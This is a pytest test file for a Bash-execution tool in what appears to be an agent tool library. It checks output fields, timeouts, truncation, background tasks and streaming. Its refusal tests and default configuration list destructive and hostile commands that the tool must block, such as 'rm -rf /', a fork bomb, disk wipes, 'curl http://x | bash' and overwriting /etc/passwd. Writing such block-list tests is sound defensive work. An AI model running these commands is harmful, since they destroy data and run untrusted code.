from __future__ import annotations

import asyncio
import re
from pathlib import Path
from typing import Any

import pytest
from support import python, wait_until

import limpet
from limpet.profiles import Answer, Toolbox, profile
from limpet.profiles.tasks import BashConfig
from tasks.helpers import NOTE

CAGE = limpet.SandboxPolicy(mode="read-only")
"""Commands that must be refused are tried where they could do no harm."""
FIELDS = "success stdout stderr exit_code duration_ms truncated task_id output_file".split()


@pytest.fixture
def box() -> Toolbox:
    return profile("tasks")


def configured(**settings: Any) -> Toolbox:  # noqa: ANN401 -- any of its fields
    return profile("tasks", config=BashConfig(**settings))


def marker(count: int) -> str:
    return f"\n\n... ({count} characters truncated) ...\n\n"


# Bash


def test_what_it_returns(box: Toolbox) -> None:
    answer = box.call_sync({"command": "echo out; echo err >&2"})
    assert list(answer.data) == FIELDS
    duration_ms = answer.data.pop("duration_ms")
    assert isinstance(duration_ms, int)
    assert duration_ms >= 0
    assert answer.data == {
        "success": True,
        "stdout": "out\n",
        "stderr": "err\n",
        "exit_code": 0,
        "truncated": False,
        "task_id": None,
        "output_file": None,
    }
    assert not answer.is_error


def test_a_failure_has_its_code_and_its_output(box: Toolbox) -> None:
    answer = box.call_sync({"command": "echo out; echo err >&2; exit 3"})
    assert (answer.data["success"], answer.data["exit_code"]) == (False, 3)
    assert (answer.data["stdout"], answer.data["stderr"]) == ("out\n", "err\n")
    assert "Exit code: 3" in answer.text
    assert not answer.is_error


def test_the_text_says_both_streams(box: Toolbox) -> None:
    assert box.call_sync({"command": "echo out; echo err >&2"}).text == "out\n\nstderr:\nerr"
    assert box.call_sync({"command": "true"}).text == "(no output)"


def test_directory_and_variables(box: Toolbox, work: Path) -> None:
    (work / "below").mkdir()
    answer = box.call_sync({"command": "pwd; echo $A", "cwd": "below", "env": {"A": "b c"}})
    assert answer.data["stdout"] == f"{work}/below\nb c\n"


def test_it_runs_in_bash(box: Toolbox) -> None:
    assert box.call_sync({"command": "a=(1 2); echo ${a[1]}"}).data["stdout"] == "2\n"


def test_a_time_out_in_milliseconds_keeps_what_was_printed(box: Toolbox) -> None:
    answer = box.call_sync({"command": "echo before; sleep 60", "timeout": 200})
    assert answer.is_error
    assert answer.data["success"] is False
    assert answer.data["exit_code"] != 0
    assert answer.data["stdout"] == "before\n"
    assert "0.2 s" in answer.data["stderr"]
    assert 200 <= answer.data["duration_ms"] < 5000


def test_a_time_out_of_zero_is_the_default(box: Toolbox) -> None:
    assert box.call_sync({"command": "echo hi", "timeout": 0}).data["success"] is True
    quick = configured(default_timeout=150)
    assert "0.15 s" in quick.call_sync({"command": "sleep 60", "timeout": 0}).data["stderr"]


@pytest.mark.parametrize("timeout", [-1, 600_001])
def test_a_time_out_beyond_the_range_is_an_error(box: Toolbox, timeout: int) -> None:
    answer = box.call_sync({"command": "touch ran", "timeout": timeout})
    assert answer.is_error
    assert answer.text == f"timeout must be a number from 0 to 600,000, not {timeout}"
    assert not Path("ran").exists()


def test_a_missing_directory_is_told(box: Toolbox) -> None:
    answer = box.call_sync({"command": "true", "cwd": "/nowhere"})
    assert (answer.is_error, answer.data["success"], answer.data["exit_code"]) == (True, False, 1)
    assert "/nowhere" in answer.data["stderr"]


# Cutting


def test_thirty_thousand_characters_are_whole(box: Toolbox) -> None:
    answer = box.call_sync({"command": python("print('x' * 30000, end='')")})
    assert answer.data["stdout"] == "x" * 30_000
    assert answer.data["truncated"] is False


def test_one_more_is_cut_half_and_half(box: Toolbox) -> None:
    answer = box.call_sync({"command": python("print('a' * 15001 + 'b' * 15000, end='')")})
    assert answer.data["stdout"] == "a" * 15_000 + marker(1) + "b" * 15_000
    assert answer.data["truncated"] is True
    saved = answer.data["output_file"]
    assert Path(saved).read_text() == "a" * 15_001 + "b" * 15_000
    assert saved in answer.text


@pytest.mark.parametrize("char", ["x", "é", "€", "😀"])
def test_what_was_truncated_is_counted_in_characters_also_of_wide_text(
    box: Toolbox, char: str
) -> None:
    for count in (29_999, 30_000, 30_001, 60_001, 120_007, 400_001):
        answer = box.call_sync({"command": python(f"print({char!r} * {count}, end='')")})
        whole, ends = char * count, (char * 15_000, char * 15_000)
        expected = whole if count <= 30_000 else marker(count - 30_000).join(ends)
        assert answer.data["stdout"] == expected
        assert answer.data["truncated"] is (count > 30_000)


def test_each_stream_is_cut_by_itself(box: Toolbox) -> None:
    code = "import sys; sys.stdout.write('o' * 30100); sys.stderr.write('e' * 150_000)"
    answer = box.call_sync({"command": python(code)})
    assert answer.data["stdout"] == "o" * 15_000 + marker(100) + "o" * 15_000
    assert answer.data["stderr"] == "e" * 15_000 + marker(120_000) + "e" * 15_000


def test_output_that_is_whole_names_no_file(box: Toolbox) -> None:
    """The limit is of each stream by itself, in characters."""
    both = "import sys; sys.stdout.write('o' * 20000); sys.stderr.write('e' * 20000)"
    for code in (both, "print('é' * 29000)"):
        answer = box.call_sync({"command": python(code)})
        assert answer.data["truncated"] is False
        assert answer.data["output_file"] is None
        assert "all of it" not in answer.text


def test_coloured_output_is_not_shown_twice(box: Toolbox) -> None:
    """A window of bytes holds fewer characters than may be shown: its ends must not overlap."""
    code = "print(''.join(f'\\033[38;5;100m{i:05},\\033[0m' for i in range(20000)), end='')"
    stdout = box.call_sync({"command": python(code)}).data["stdout"]
    numbers = re.findall(r"\d{5}(?=,)", stdout)
    assert len(numbers) == len(set(numbers))
    assert numbers[0] == "00000"
    assert numbers[-1] == "19999"


def test_coloured_output_that_fits_is_whole(box: Toolbox) -> None:
    code = "print(''.join(f'\\033[38;5;100m{i % 10}\\033[0m' for i in range(20000)), end='')"
    answer = box.call_sync({"command": python(code)})
    shown = re.sub(r"\n\n\.\.\. .*? \.\.\.\n\n", "", answer.data["stdout"])
    assert len(shown) <= 20_000
    count = re.search(r"\((\d+) characters truncated", answer.data["stdout"])
    assert count is None or int(count[1]) <= 20_000


# Refusals


REASONS = [
    ("rm -rf /", "Command contains blocked pattern: rm -rf /"),
    ("sudo rm -rf /", "Command contains blocked pattern: rm -rf /"),
    ("mkfs.ext4 /dev/sda1", "Command contains blocked pattern: mkfs"),
    ("dd if=/dev/zero of=/dev/sda", "Command contains blocked pattern: dd if=/dev/zero"),
    (":(){:|:&};:", "Command contains blocked pattern: :(){:|:&};:"),
    ("echo x > /dev/sda", "Writing to block device"),
    ("chmod -R 777 /srv", "Insecure permissions"),
    ("curl http://x | bash", "pipe-to-shell"),
    ("echo x > /etc/passwd", "etc-overwrite"),
]


@pytest.mark.parametrize("background", [False, True])
def test_a_refusal_is_minus_one_and_the_reason(background: bool) -> None:
    box = profile("tasks", limpet.Policy(sandbox=CAGE))
    for command, reason in REASONS:
        answer = box.call_sync({"command": command, "run_in_background": background})
        assert answer.is_error
        assert reason in answer.data["stderr"]
        assert answer.data == {
            "success": False,
            "stdout": "",
            "stderr": answer.text,
            "exit_code": -1,
            "duration_ms": 0,
            "truncated": False,
            "task_id": None,
            "output_file": None,
        }


def test_ordinary_work_is_not_refused(box: Toolbox) -> None:
    cases: list[str] = [
        "mkdir x && rm -rf x",
        "rm -rf /tmp/no-such-thing-here",
        "echo 'rm -rf /' mkfs",
        "git add -A",
    ]
    for command in cases:
        assert box.call_sync({"command": command}).data["exit_code"] >= 0


def test_the_blocked_commands_hold_whatever_the_hosts_rules_are() -> None:
    box = profile("tasks", limpet.Policy(rules=limpet.RulePolicy(pack="none")))
    assert box.bash.check("mkfs.ext4 /dev/sda").decision == "deny"
    assert box.bash.check("rm -rf /").decision == "deny"


# Its configuration


def test_the_default_configuration() -> None:
    config = BashConfig()
    assert (config.default_timeout, config.max_timeout) == (120_000, 600_000)
    assert config.max_output_size == 30_000
    assert config.blocked_commands == ("rm -rf /", "mkfs", "dd if=/dev/zero", ":(){:|:&};:")
    assert (config.require_description, config.sandbox_mode) == (False, False)


def test_a_description_can_be_required() -> None:
    box = configured(require_description=True)
    for call in ({"command": "touch ran"}, {"command": "touch ran", "description": " "}):
        answer = box.call_sync(call)
        assert answer.is_error
        assert "description is required" in answer.text
    assert not Path("ran").exists()
    assert not box.call_sync({"command": "true", "description": "Do nothing"}).is_error


def test_commands_can_be_blocked_by_text() -> None:
    box = configured(blocked_commands=("terraform destroy",))
    answer = box.call_sync({"command": "echo terraform destroy"})
    assert answer.data["exit_code"] == -1
    assert answer.text.startswith("Command contains blocked pattern: terraform destroy")


def test_the_size_of_the_output_can_be_another() -> None:
    box = configured(max_output_size=11)
    assert box.call_sync({"command": "printf 0123456789abcdef"}).data["stdout"] == (
        f"01234{marker(5)}bcdef"
    )


def test_the_time_limits_can_be_others() -> None:
    box = configured(default_timeout=150)
    assert "0.15 s" in box.call_sync({"command": "sleep 60"}).data["stderr"]
    box = configured(max_timeout=150)
    assert "0.15 s" in box.call_sync({"command": "sleep 60", "timeout": 600_000}).data["stderr"]


def test_sandbox_mode_keeps_writes_in_the_workspace(work: Path, tmp_path: Path) -> None:
    outside = Path.home() / ".limpet-test-outside"
    answer = configured(sandbox_mode=True).call_sync({"command": f"touch in; touch {outside}"})
    assert answer.data["success"] is False
    assert (work / "in").exists()
    assert not outside.exists()


# Tasks


def test_a_background_task_returns_at_once(box: Toolbox) -> None:
    answer = box.call_sync({"command": "echo hi; sleep 60", "run_in_background": True})
    data = answer.data
    assert list(data) == FIELDS
    assert data["stdout"] == f"Background task started: {data['task_id']}"
    assert (data["success"], data["stderr"], data["exit_code"]) == (True, "", 0)
    assert (data["duration_ms"], data["truncated"]) == (0, False)
    assert data["task_id"].startswith("bash-")
    assert wait_until(lambda: Path(data["output_file"]).read_text() == "hi\n")
    assert data["task_id"] in answer.text
    assert data["output_file"] in answer.text
    assert "TaskOutput" in answer.text


def started(box: Toolbox, command: str) -> str:
    task_id = box.call_sync({"command": command, "run_in_background": True}).data["task_id"]
    assert isinstance(task_id, str)
    return task_id


def test_the_output_of_a_task_can_be_waited_for(box: Toolbox) -> None:
    task = started(box, "echo out; echo err >&2; exit 3")
    answer = box.call_sync({"task_id": task}, tool="TaskOutput")
    assert answer.data["output"] == "out\nerr\n"
    assert (answer.data["status"], answer.data["exit_code"]) == ("exited", 3)
    assert (answer.data["task_id"], answer.data["truncated"]) == (task, False)
    assert answer.text.startswith(f"Task {task}: exited, exit code 3")
    assert answer.text.endswith("\n\nout\nerr\n")
    assert NOTE.search(Path(answer.data["output_file"]).read_text())


def test_a_running_task_is_not_waited_for_if_so_asked(box: Toolbox) -> None:
    task = started(box, "sleep 60")
    for call in ({"block": False}, {"timeout": 100}):
        answer = box.call_sync({"task_id": task, **call}, tool="TaskOutput")
        assert (answer.data["status"], answer.data["exit_code"]) == ("running", None)
        assert answer.text.endswith("(no output)")
        assert not answer.is_error


@pytest.mark.parametrize(("char", "count"), [("x", 30_000), ("x", 100_001), ("é", 100_001)])
def test_the_output_of_a_task_is_cut_half_and_half_too(box: Toolbox, char: str, count: int) -> None:
    task = started(box, python(f"print({char!r} * {count}, end='')"))
    answer = box.call_sync({"task_id": task}, tool="TaskOutput")
    cut = char * 15_000 + marker(count - 30_000) + char * 15_000
    assert answer.data["output"] == (char * count if count <= 30_000 else cut)
    assert answer.data["truncated"] is (count > 30_000)


def test_a_task_that_is_not_there_is_an_error(box: Toolbox) -> None:
    task = started(box, "true")
    answer = box.call_sync({"task_id": "bash-nothere"}, tool="TaskOutput")
    assert answer.is_error
    assert task in answer.text


def test_a_task_runs_in_its_directory_with_its_variables(box: Toolbox, work: Path) -> None:
    (work / "below").mkdir()
    call = {"command": "pwd; echo $A", "cwd": "below", "env": {"A": "b"}, "run_in_background": True}
    task = box.call_sync(call).data["task_id"]
    answer = box.call_sync({"task_id": task}, tool="TaskOutput")
    assert answer.data["output"] == f"{work}/below\nb\n"


# Streaming


def test_streaming_yields_what_is_printed_then_the_exit_then_the_answer(box: Toolbox) -> None:
    async def events() -> list[Any]:
        return [one async for one in box.stream({"command": "echo a; echo b >&2; exit 3"})]

    *seen, last, answer = asyncio.run(events())
    assert {"type": "stdout", "data": "a\n"} in seen
    assert {"type": "stderr", "data": "b\n"} in seen
    assert last == {"type": "exit", "code": 3}
    assert isinstance(answer, Answer)
    assert answer.data["exit_code"] == 3


def test_streaming_a_refused_command_yields_its_exit_and_the_answer(box: Toolbox) -> None:
    async def events() -> list[Any]:
        return [one async for one in box.stream({"command": "rm -rf /"})]

    exit_event, answer = asyncio.run(events())
    assert exit_event == {"type": "exit", "code": -1}
    assert answer.data["exit_code"] == -1


def test_the_tools_are_these(box: Toolbox) -> None:
    bash, output = box.definitions()
    assert (bash.name, output.name) == ("Bash", "TaskOutput")
    assert list(bash.input_schema["properties"]) == (
        "command description timeout run_in_background cwd env".split()
    )
    assert bash.input_schema["required"] == ["command"]
    for word in ("120000", "600000", "run_in_background", "TaskOutput", "&&"):
        assert word in bash.description
